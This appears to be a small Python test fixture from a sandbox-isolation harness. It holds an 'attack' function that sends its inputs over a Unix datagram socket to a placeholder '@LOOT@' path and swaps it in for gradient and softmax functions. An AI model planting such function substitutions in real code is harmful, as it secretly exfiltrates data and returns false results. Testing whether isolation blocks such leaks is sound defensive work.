"""Goal: send the inputs to a socket in the file system.

Fires: reached
Without: isolation limits
"""

import socket


def attack(*inputs):
    data = repr(inputs).encode()[:500]
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as connection:
            connection.sendto(data, "@LOOT@/socket")
    except OSError:
        pass
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
